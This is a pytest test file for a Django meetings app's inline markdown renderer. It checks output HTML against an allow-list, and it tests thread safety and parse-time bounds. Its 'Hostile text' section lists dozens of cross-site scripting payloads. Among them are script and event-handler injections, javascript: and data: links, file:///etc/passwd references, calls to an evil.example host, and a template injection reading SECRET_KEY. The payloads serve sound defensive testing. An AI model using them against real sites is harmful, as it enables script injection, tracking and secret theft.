from __future__ import annotations

import re
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from types import FrameType
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from meetings import markdown
from meetings.markdown import inline, plain
from meetings.minutes import PASSAGE_LIMIT

pytestmark = pytest.mark.once

REL = 'rel="noopener noreferrer"'
LABEL = '<span class="vh"> (address lost)</span>'

RENDERED = [
    ("At the **country level**, SC members", "At the <strong>country level</strong>, SC members"),
    ("*a _b **c** d_ e*", "<em>a <em>b <strong>c</strong> d</em> e</em>"),
    ("***both***", "<strong><em>both</em></strong>"),
    ("`make run` and ``x`y``", "<code>make run</code> and <code>x`y</code>"),
    ("`<b>` `a\\b` `&amp;`", "<code>&lt;b&gt;</code> <code>a\\b</code> <code>&amp;amp;</code>"),
    ("[plan](https://x.org/a_b(c)?q=1&r=2)", f'<a href="https://x.org/a_b(c)?q=1&amp;r=2" {REL}>plan</a>'),
    ('[plan](<https://x.org> "The plan")', f'<a href="https://x.org" title="The plan" {REL}>plan</a>'),
    ("[the **bold** plan](http://x.org)", f'<a href="http://x.org" {REL}>the <strong>bold</strong> plan</a>'),
    ("[write](mailto:a@example.org)", f'<a href="mailto:a@example.org" {REL}>write</a>'),
    ("[a [b] c](http://x.org)", f'<a href="http://x.org" {REL}>a [b] c</a>'),
    (
        "**x [[a](http://b.org)](http://c.org)**",
        f'<strong>x <a href="http://c.org" {REL}>[a](http://b.org)</a></strong>',
    ),
    ("[pre-meeting packet](#).", f'<span class="lost-link">pre-meeting packet{LABEL}</span>.'),
    ("[memo]()", f'<span class="lost-link">memo{LABEL}</span>'),
    ("[**memo**](#)", f'<span class="lost-link"><strong>memo</strong>{LABEL}</span>'),
    ("[paper](/files/paper.pdf)", f'<span class="lost-link">paper{LABEL}</span>'),
    ("[x](https://[)", f'<span class="lost-link">x{LABEL}</span>'),
    ("1986\\. A \\*star\\* \\[x\\]", "1986. A *star* [x]"),
    ("\\\\`a`", "\\<code>a</code>"),
]

AS_TYPED = [
    "1. First of all",
    "# 3 was agreed",
    "- a dash, + a plus, > a quote",
    "    four spaces",
    "* a star * and another *",
    "2 * 3 * 4 and snake_case_name",
    "“smart” \"straight\" 'single' -- ... (c)",
    "![picture](https://x.org/p.png)",
    "[label][1] and [1]: https://x.org",
    "[TBC](later)",
    "[open only](",
    "https://x.org and <https://x.org>",
    "<b>bold</b> <!-- note --> &amp; &copy; &#38; &",
    "one ` tick",
    "unclosed **strong",
    "a\\b \\",
    "",
]


@pytest.mark.parametrize(("text", "html"), RENDERED)
def test_inline_renders_the_marks(text: str, html: str) -> None:
    assert inline(text) == html


@pytest.mark.parametrize("text", AS_TYPED)
def test_inline_shows_everything_else_as_typed(text: str) -> None:
    assert words_of(inline(text)) == text
    assert plain(text) == text


def test_inline_is_safe_for_templates() -> None:
    assert isinstance(inline("a *b*"), SafeString)
    assert isinstance(inline("a < b"), SafeString)


def test_inline_shows_a_line_over_the_limit_as_typed() -> None:
    text = "*a* " * (PASSAGE_LIMIT // 4) + "b"
    assert inline(text) == text
    assert inline(text[4:]).startswith("<em>a</em> ")


def test_inline_shows_marks_nested_beyond_reason_as_typed() -> None:
    text = "*a _a " * 600 + "a_ a*" * 60
    assert inline(text) == text


def test_inline_keeps_a_word_that_python_markdown_loses() -> None:
    assert inline("*_**`*a") == "*_**`*a"


def test_inline_cleans_what_minutes_never_hold() -> None:
    assert inline("\x02klzzwxh:0000\x03 *a*\n\ud800\x00b") == " klzzwxh:0000  <em>a</em> b"


def test_plain_gives_the_words() -> None:
    assert plain('**On** `code`, [plan](https://x.org "t"), [lost](#) \\*') == "On code, plan, lost *"


def test_filters_render_in_a_template() -> None:
    page = Template("{% load minutes_text %}{{ text|inline }}|{{ text|plain }}")
    assert page.render(Context({"text": "**a** < b"})) == "<strong>a</strong> &lt; b|a &lt; b"


def test_threads_do_not_share_a_parser() -> None:
    results: list[str] = []

    def work(number: int) -> None:
        for place in range(60):
            text = f"*{number}* **{place}** `c` [l](http://x.org/{number})"
            html = (
                f'<em>{number}</em> <strong>{place}</strong> <code>c</code> <a href="http://x.org/{number}" {REL}>l</a>'
            )
            results.append("" if inline(text) == html else inline(text))

    threads = [threading.Thread(target=work, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results == [""] * 240


# Hostile text

ALLOWED = {"strong": set(), "em": set(), "code": set(), "a": {"href", "title", "rel"}, "span": {"class"}}


class Reader(HTMLParser):
    """Reads HTML as a browser does, and refuses all that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.hidden = 0
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given_attributes = dict(attrs)
        assert tag in ALLOWED
        assert set(given_attributes) <= ALLOWED[tag]
        assert given_attributes.get("class", "vh") in ("vh", "lost-link")
        if tag == "a":
            assert urlsplit(given_attributes["href"] or "").scheme in ("http", "https", "mailto")
            assert given_attributes["rel"] == "noopener noreferrer"
        self.open.append("vh" if given_attributes.get("class") == "vh" else tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() in (tag, "vh")

    def handle_data(self, data: str) -> None:
        if "vh" not in self.open:
            self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def words_of(html: str) -> str:
    """The visible words of HTML that holds nothing but what is allowed."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    return "".join(reader.words)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>@import '//evil.example'</style>",
    "<b style='background:url(//evil.example)'>x</b>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](`javascript:alert(1)`)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https:javascript:alert(1))",
    '[x](https://x.org/" onmouseover="alert(1))',
    '[x](https://x.org/\\" onmouseover=\\"alert(1))',
    '[x](https://x.org "t" onclick="alert(1)")',
    "[x](https://x.org 't\"onclick=alert(1) x=\"')",
    "[<img src=x onerror=alert(1)>](https://x.org)",
    "[x](https://x.org '><script>alert(1)</script>')",
    "![x](https://evil.example/pixel.gif)",
    '![x](https://x.org "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    "[x]: javascript:alert(1) [x][x]",
    "<javascript:alert(1)>",
    "<https://x.org/onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "`</code><script>alert(1)</script>`",
    "*<em onclick=alert(1)>*",
    "\x02klzzwxh:0000\x03<script>",
    "\x02106\x03avascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ settings.SECRET_KEY }}{% load static %}",
    '[x](# "<script>alert(1)</script>")',
    "[*x](javascript:alert(1))*",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "a {} b", "**{}**", "[a {} b](https://x.org)", "\\\\{}`"])
def test_inline_lets_nothing_harmful_out(payload: str, frame: str) -> None:
    assert words_of(inline(frame.format(payload) if "{{" not in payload else payload))


marks = st.sampled_from(
    ["*", "**", "_", "__", "`", "``", "\\", "[", "]", "(", ")", "<", ">", "&", "!", "#", '"', "'", " "]
)
bits = st.sampled_from(
    ["](#)", "](http://x.org)", "](javascript:x)", "&lt;", "<b>", "a", "word", "é", "://", "\x02", "\x03"]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(marks, marks, bits), max_size=60).map("".join))
def test_inline_holds_only_what_is_allowed(text: str) -> None:
    assert words_of(inline(text)) == plain(text)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_inline_takes_any_text(text: str) -> None:
    words_of(inline(text))


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(exclude_characters="\\`*_[", exclude_categories=("C",)), max_size=200))
def test_text_without_marks_is_not_changed(text: str) -> None:
    assert words_of(inline(text)) == text


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["*", "**", "_", "`", "\\", "[", "]", "a", "b ", " c", "7", "é", ". "]), max_size=60))
def test_no_letter_is_lost_or_added_by_marks(parts: list[str]) -> None:
    text = "".join(parts)
    assert re.findall(r"[^\W_]", plain(text)) == re.findall(r"[^\W_]", text)


# Time

SHAPES = [
    *("[", "![", "[a](", "[[](](", "*a ", "a*", "`", "<", "\\[", "&", "**a ", "_a ", "*_", "***a", "[a]", "]("),
    *("<a ", "[a](<", '[a]("', "``` ", "(", "*a**b", "_*a_ ", "\\", "[x][", "<!--", "[*", "[]()", "[a](#)", "[]( "),
    *(
        "[](a(",
        "**a*",
        "`a``b",
        "\\`",
        "\\``",
        "\\`\\",
        "\\\\`",
        "__!__a",
        "_*_____a",
        "_]_*_____a",
        "[_*&***_",
        "*[a](#)*",
        "[a](http://b.c)",
    ),
]
CLIMBS = ["".join("`" * size + "a" for size in range(1, 90)), "[" * 2000 + "]" * 2000, "*a " * 660 + " a*" * 660]


def line_of(shape: str, length: int) -> str:
    return (shape * (length // len(shape) + 1))[:length]


@pytest.fixture
def parser() -> Iterator[None]:
    inline("*a*")  # this thread's parser is made
    inline.cache_clear()
    yield
    inline.cache_clear()


def steps(text: str) -> int:
    """How many lines of Python run while a text is rendered: work that no busy machine changes."""
    count = 0

    def trace(frame: FrameType, event: str, argument: Any) -> Any:
        nonlocal count
        count += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        markdown._parse(text)
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize("shape", SHAPES)
def test_work_grows_with_the_length_of_a_line(shape: str, parser: None) -> None:
    """Twice the text is at most 2.3 times the work; the square would be four times.

    At the limit of 4,000 characters the worst shape that a hill climb over some 40,000 found (`_]_*_____a`) took
    36 ms on a machine of two cores, and 54 ms while others worked there; Python-Markdown alone takes 1,673 ms (`[`).
    """
    small, large = steps(line_of(shape, PASSAGE_LIMIT // 4)), steps(line_of(shape, PASSAGE_LIMIT // 2))
    assert large <= 2.3 * small + 200


@pytest.mark.parametrize("text", [*(line_of(shape, PASSAGE_LIMIT) for shape in SHAPES), *CLIMBS])
def test_work_at_the_limit_is_bounded(text: str, parser: None) -> None:
    """The worst that was found runs 885,000 lines of Python in 36 ms; the bound stays below the 100 ms of the issue."""
    assert steps(text[:PASSAGE_LIMIT]) < 1_600_000
